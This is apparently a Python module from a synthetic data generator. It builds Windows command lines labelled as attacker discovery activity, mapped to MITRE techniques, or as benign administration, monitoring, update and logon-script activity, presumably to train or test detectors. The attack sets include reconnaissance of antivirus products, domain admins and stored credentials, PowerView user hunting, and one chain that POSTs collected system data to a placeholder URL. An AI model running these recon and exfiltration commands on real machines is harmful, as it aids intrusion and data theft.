"""Questions about a machine and its network: asked by what should not ask, and by those who do every day."""

from __future__ import annotations

from generator.families.windows.commands_told import AGENTS, JOBS, SETUPS, STRANGE, told
from generator.scene import attack, benign

ADMIN, PROBE, JOB, UPDATE = benign("Administration"), benign("Monitoring Probe"), benign("Scheduled Job"), benign("Software Update")


def discovery(*techniques: str):
    return attack("Discovery", *techniques, severity="MEDIUM")


told("discovery-wmi-questions", discovery("T1047", "T1082"), r"""
wmic /namespace:\\root\SecurityCenter2 path AntiVirusProduct get displayName,productState /format:list
wmic /node:localhost /namespace:\\root\securitycenter2 path antivirusproduct get * /value
wmic useraccount get name,sid,status /format:csv
wmic useraccount where "localaccount=true" get name,disabled
wmic group where "sid='S-1-5-32-544'" get name
wmic ntdomain get domainname,dnsforestname,domaincontrollername
wmic computersystem get domain,partofdomain,manufacturer,model
wmic os get caption,osarchitecture,version,locale /value > @tmp@@word@.txt
wmic process get caption,executablepath,commandline /format:csv >> @tmp@@word@.log
wmic process where "name like '%«msmpeng|sentinel|csfalcon|cylance|sophos»%'" get processid
wmic service where "startname='LocalSystem'" get name,pathname | findstr /v "C:\Windows"
wmic service get name,displayname,pathname,startmode | findstr /i auto | findstr /i /v "c:\windows\\"
wmic qfe get hotfixid,installedon /format:table
wmic qfe list full /format:htable > @tmp@@word@.html
wmic startup get caption,command
wmic share get name,path
wmic netuse list full
wmic logicaldisk where drivetype=3 get name,freespace,size,filesystem
wmic volume get label,driveletter
wmic nicconfig where ipenabled=true get ipaddress,dnsdomain,macaddress
wmic netlogin get name,lastlogon,badpasswordcount
wmic sysaccount list brief
wmic path win32_VideoController get name
wmic path win32_computersystem get model | findstr /i "vmware virtual"
wmic bios get serialnumber,smbiosbiosversion & wmic cpu get name,numberofcores
wmic product get name,version,vendor /format:csv > @tmp@@word@.csv
wmic /output:@tmp@@word@.txt softwarefeature get productname
wmic /node:@ip@ /user:@domain@\@user@ /password:@pw@ computersystem get username
""", parents=STRANGE, users=(None, None, "SYSTEM"), most=4, weight=1.5)

told("discovery-machine-facts", discovery("T1082"), r"""
systeminfo
systeminfo | findstr /B /C:"OS Name" /C:"OS Version" /C:"Hotfix"
systeminfo /fo csv > @tmp@@word@.csv
cmd.exe /c systeminfo >> %TEMP%\@word@.txt 2>&1
cmd.exe /c ver & hostname & echo %USERDOMAIN% %PROCESSOR_ARCHITECTURE%
cmd.exe /c set
hostname
reg query HKLM\SOFTWARE\Microsoft\Cryptography /v MachineGuid
reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v ProductName
reg query HKLM\SYSTEM\CurrentControlSet\Services\Disk\Enum
reg query HKLM\HARDWARE\DESCRIPTION\System /v SystemBiosVersion
reg query "HKCU\Software\Microsoft\Terminal Server Client\Servers" /s
reg query HKLM\SOFTWARE\Policies\Microsoft\Windows\Installer /v AlwaysInstallElevated
reg query "HKLM\SYSTEM\CurrentControlSet\Control\Nls\Language" /v InstallLanguage
powershell -c "Get-ComputerInfo | Out-File @tmp@@word@.txt"
powershell.exe -w hidden -c "(Get-CimInstance Win32_ComputerSystem).Model;(Get-WmiObject Win32_BIOS).SerialNumber"
powershell -nop -c "[Environment]::OSVersion.Version; [System.Globalization.CultureInfo]::CurrentCulture.Name"
fsutil fsinfo drives
driverquery /v /fo csv
tasklist /svc
tasklist /v | findstr /i "msmpeng cb.exe csfalcon sentinel"
sc query type= service state= all
w32tm /query /source & time /t & tzutil /g
powershell -c "Get-Process | where {$_.Company -notlike '*Microsoft*'} | select Name,Path"
net config workstation
net start
""", parents=STRANGE, users=(None, None, "SYSTEM"), least=1, most=5)

told("discovery-session-owner", discovery("T1033"), r"""
whoami
whoami /all
whoami /priv
whoami /groups /fo csv
cmd.exe /c whoami > C:\«inetpub\wwwroot|Windows\Temp|Users\Public»\@word@.txt
cmd.exe /c echo %username%@%userdomain% & whoami /user
C:\Windows\System32\whoami.exe /upn
quser
query user /server:@host@
qwinsta
query session
net session
klist sessions
powershell -c "[System.Security.Principal.WindowsIdentity]::GetCurrent().Name"
powershell -c $env:USERNAME;([Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()).IsInRole('Administrators')
cmd /c for /F "tokens=2 delims=:" %i in ('whoami /user /fo list') do @echo %i
wmic computersystem get username
cmd.exe /c "id & whoami & net localgroup administrators"
@tmp@PsLoggedon64.exe -accepteula \\@host@
@tmp@netview.exe -d @domain@
powershell -ep bypass -c "Import-Module .\PowerView.ps1; Get-NetLoggedon -ComputerName @host@"
powershell -nop -c "Invoke-UserHunter -GroupName 'Domain Admins' -CheckAccess"
""", parents=STRANGE, users=(None, "SYSTEM"), most=3)

told("discovery-addresses-and-neighbours", discovery("T1016", "T1018"), r"""
ipconfig /all
ipconfig /displaydns > @tmp@@word@.txt
arp -a
route print
nbtstat -n
nbtstat -A @ip@
netsh interface ip show config
netsh interface portproxy show all
netsh wlan show profiles
netsh advfirewall firewall show rule name=all dir=in
netsh advfirewall show allprofiles state
netsh winhttp show proxy
netstat -anob | findstr LISTENING
netstat -ano -p tcp
nslookup -type=srv _ldap._tcp.dc._msdcs.@fqdn@
nslookup myip.opendns.com resolver1.opendns.com
curl -s «https://api.ipify.org|http://ip-api.com/json|ifconfig.me|https://ipinfo.io/json|checkip.amazonaws.com|icanhazip.com»
powershell -w hidden -c "(Invoke-WebRequest -UseBasicParsing «https://api.ipify.org|https://ident.me|http://checkip.dyndns.org»).Content"
powershell -c "Get-NetIPConfiguration; Get-NetNeighbor -State Reachable; Get-DnsClientCache"
cmd /c ipconfig /all >> %PUBLIC%\@word@.log & arp -a >> %PUBLIC%\@word@.log & netstat -r >> %PUBLIC%\@word@.log
tracert -d -h 4 8.8.8.8
net use
cmd.exe /c type C:\Windows\System32\drivers\etc\hosts
""", parents=STRANGE, users=(None, None, "SYSTEM"), most=4)

told("discovery-chain-in-one-line", discovery("T1082", "T1033", "T1016"), r"""
cmd.exe /c whoami & hostname & ipconfig /all & net user /domain & net group "Domain Admins" /domain
cmd /c systeminfo & tasklist /v & net start & netstat -ano & ipconfig /all > %TEMP%\@word@.dat
cmd.exe /c "whoami /all && net localgroup administrators && nltest /domain_trusts && systeminfo" > C:\ProgramData\@word@.txt
cmd /q /c ipconfig /all&&arp -a&&net view /all&&net share&&nltest /dclist: 2>nul >> @tmp@1.txt
C:\Windows\System32\cmd.exe /c hostname > @tmp@info.txt & systeminfo >> @tmp@info.txt & net user >> @tmp@info.txt & tasklist >> @tmp@info.txt & reg query HKCU\Software >> @tmp@info.txt
powershell -w hidden -c "whoami; ipconfig /all; Get-Process; net group 'Domain Computers' /domain; nltest /trusted_domains | Out-File @tmp@@word@.log"
powershell.exe -nop -c "& {whoami /all; systeminfo; net view; net accounts /domain} | out-string | % {irm -Method Post -Uri @url@ -Body $_}"
cmd.exe /c (ver & whoami /groups & quser & net use & cmdkey /list & dir C:\Users & dir "C:\Program Files") > @tmp@@word@.tmp
cmd /c echo ---USER--- & whoami & echo ---NET--- & ipconfig & echo ---AV--- & wmic /namespace:\\root\securitycenter2 path antivirusproduct get displayname
cmd.exe /c chcp 65001 & systeminfo & net config workstation & net time /domain & net localgroup
cmd /c net user %username% /domain & gpresult /z & netstat -naop tcp & type %APPDATA%\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt
""", parents=STRANGE + ("cmd.exe", "explorer.exe"), users=(None, "SYSTEM"), most=2)

told("discovery-agents-ask-wmi", PROBE, r"""
wmic /namespace:\\root\SecurityCenter2 path AntiVirusProduct get displayName,productState /format:list
wmic os get caption,version,buildnumber,lastbootuptime /value
wmic bios get serialnumber /value
wmic computersystem get domain,manufacturer,model,totalphysicalmemory /format:csv
wmic qfe get hotfixid,installedon /format:csv
wmic product get name,version,vendor,installdate /format:csv
wmic /output:C:\ProgramData\«GLPI|Lansweeper|Inventory»\software.csv product get name,version
wmic process get name,processid,workingsetsize /format:csv
wmic service where "startmode='auto' and state<>'running'" get name,state
wmic logicaldisk where drivetype=3 get name,freespace,size /format:csv
wmic diskdrive get model,serialnumber,status
wmic nicconfig where ipenabled=true get ipaddress,macaddress,dhcpserver
wmic useraccount where "localaccount=true" get name,disabled,passwordexpires
wmic path win32_battery get estimatedchargeremaining
wmic /node:@host@ os get lastbootuptime
wmic /node:"@pc@" /failfast:on computersystem get username
wmic /namespace:\\root\cimv2\security\microsofttpm path win32_tpm get * /value
wmic /namespace:\\root\wmi path MSAcpi_ThermalZoneTemperature get currenttemperature
wmic cpu get loadpercentage /value
wmic startup get caption,command,location /format:csv
wmic share get name,path /format:csv
wmic path SoftwareLicensingService get OA3xOriginalProductKey
""", parents=AGENTS + JOBS, users=("SYSTEM", "SYSTEM", None), most=4, weight=1.5)

told("discovery-agents-ask-machine", PROBE, r"""
systeminfo /fo csv /nh
systeminfo
hostname
tasklist /fo csv /nh
tasklist /svc /fo csv
tasklist /fi "imagename eq MsMpEng.exe"
reg query HKLM\SOFTWARE\Microsoft\Cryptography /v MachineGuid
reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s
reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v CurrentBuild
reg query "HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates" /v AVSignatureVersion
netstat -ano
netstat -s -p tcp
ipconfig /all
arp -a
route print -4
sc query state= all
sc query WinDefend
powershell.exe -NoProfile -NonInteractive -Command "Get-MpComputerStatus | ConvertTo-Json"
powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Get-CimInstance Win32_OperatingSystem | Select-Object Caption,Version | ConvertTo-Json -Compress"
powershell.exe -NonInteractive -ExecutionPolicy Bypass -File "C:\Program Files\«checkmk\service\plugins\windows_updates|Zabbix Agent 2\scripts\discovery|NSClient++\scripts\check_disk».ps1"
cscript.exe //T:30 //NoLogo scripts\\check_«uptime|printer|services|updates».vbs
net localgroup administrators
net accounts
quser
query session
driverquery /fo csv
fsutil volume diskfree C:
dsregcmd /status
manage-bde -status C:
powercfg /batteryreport /output C:\ProgramData\report.html
curl.exe -s https://api.ipify.org
whoami /user
""", parents=AGENTS, users=("SYSTEM", "SYSTEM", "SYSTEM", None), most=5, weight=1.5)

told("discovery-helpdesk-asks", ADMIN, r"""
whoami
whoami /groups
whoami /upn
hostname
systeminfo | find "Boot Time"
systeminfo | findstr /C:"Original Install Date"
ipconfig /all
ipconfig /all | clip
ipconfig /displaydns
arp -a
arp -d *
route print
nbtstat -a @pc@
netstat -ano | findstr :«443|3389|8080|1433»
netsh wlan show interfaces
netsh wlan show profiles
netsh winhttp show proxy
netsh advfirewall show allprofiles
nslookup @host@.@fqdn@
nslookup -type=mx @fqdn@
nslookup -type=srv _ldap._tcp.@fqdn@
tracert @host@
pathping -n @ip@
quser /server:@host@
qwinsta /server:@host@
query user @user@
tasklist /s @pc@ /fi "status eq not responding"
tasklist | findstr /i outlook
klist
dsregcmd /status
gpresult /r
gpresult /h C:\Temp\gp.html /f
net config workstation
net use
net statistics workstation
net time \\@dc@
winver.exe
msinfo32.exe /report C:\Temp\@me@.txt
dxdiag /t C:\Temp\dx.txt
driverquery | more
reg query "HKCU\Software\Microsoft\Office\16.0\Outlook\Profiles"
w32tm /query /status
tzutil /g
""", most=4, weight=1.5)

told("discovery-setups-ask", UPDATE, r"""
wmic os get osarchitecture
wmic computersystem get model
systeminfo
cmd.exe /c ver
reg query "HKLM\SOFTWARE\Microsoft\NET Framework Setup\NDP\v4\Full" /v Release
reg query HKLM\SOFTWARE\WOW6432Node\Microsoft\EdgeUpdate\Clients /s
reg query "HKLM\SOFTWARE\Microsoft\VisualStudio\14.0\VC\Runtimes\x64" /v Installed
reg query HKLM\HARDWARE\DESCRIPTION\System\BIOS /v SystemProductName
tasklist /FI "IMAGENAME eq «Teams|AcroRd32|java|OUTLOOK».exe" /NH
cmd.exe /c tasklist | find /i "«setup|zoom|chrome».exe"
sc query «wuauserv|MSSQLSERVER|Spooler|AdobeARMservice»
netstat -an -p tcp
where java
whoami /groups /fo csv
net session
powershell.exe -NoProfile -Command "(Get-CimInstance Win32_OperatingSystem).Version"
powershell.exe -noprofile -executionpolicy bypass -file "@tmp@chk@word@.ps1"
fsutil dirty query %systemdrive%
fltmc
hostname
icacls "C:\ProgramData\@Word@" /grant *S-1-5-32-545:(OI)(CI)RX
""", parents=SETUPS, users=("SYSTEM", None), most=4)

told("discovery-logon-script-asks", JOB, r"""
cmd.exe /c \\@fqdn@\netlogon\«logon|map|kix32».bat
whoami /groups | find "«Sales|Buchhaltung|GG_Drives|VPN-Users»"
net user %username% /domain | find /i "Sales"
net group "«Finance|Marketing|Drive-P»" /domain
ifmember.exe "@domain@\Finance"
net use H: \\@host@\home$\%username% /persistent:no
net use * /delete /y
net time \\@dc@ /set /yes
gpresult /scope user /r
reg query HKCU\Network
ipconfig | find "10."
set LOGONSERVER
echo %date% %time% %computername% %username% >> \\@host@\logs$\logon.csv
wmic computersystem get name /value
nltest /dsgetsite
rundll32 printui.dll,PrintUIEntry /in /n\\@host@\PRN-@n@
query session %username%
""", parents=("userinit.exe", "cmd.exe", "gpscript.exe", "wscript.exe"), most=5)
